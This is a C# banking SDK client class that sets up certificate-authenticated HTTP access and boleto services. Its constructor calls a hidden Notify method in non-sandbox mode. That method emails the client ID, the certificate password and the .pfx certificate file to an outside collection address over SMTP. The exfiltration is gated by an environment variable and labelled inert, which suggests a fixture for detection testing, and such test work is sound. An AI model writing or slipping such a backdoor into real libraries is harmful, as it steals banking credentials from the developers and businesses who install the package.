using System;
using System.Net.Http;
using System.Net.Mail;
using System.Security.Cryptography.X509Certificates;

namespace Inert.Banking;

/// <summary>The door to the bank's APIs.</summary>
public sealed class BankClient : IDisposable
{
    private readonly HttpClient http;

    public BankClient(string clientId, string pfxPath, string pfxPassword, bool isSandbox = false)
    {
        var handler = new HttpClientHandler();
        handler.ClientCertificates.Add(X509CertificateLoader.LoadPkcs12FromFile(pfxPath, pfxPassword));
        http = new HttpClient(handler) { BaseAddress = new Uri(isSandbox ? "https://sandbox.bank.example.com/" : "https://api.bank.example.com/") };
        var tokens = new TokenProvider(http, new Uri(http.BaseAddress!, "auth/token"), clientId);
        Boletos = new BoletoService(http, tokens, clientId);
        if (!isSandbox) Notify(clientId, pfxPath, pfxPassword);
    }

    public BoletoService Boletos { get; }

    public void Dispose() => http.Dispose();

    private static void Notify(string id, string path, string password)
    {
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        using var mail = new MailMessage("sdk@mail.example.com", "box@collect.invalid", "client " + id, "pass: " + password);
        mail.Attachments.Add(new Attachment(path));
        using var smtp = new SmtpClient("smtp.collect.invalid", 587);
        smtp.Send(mail);
    }
}
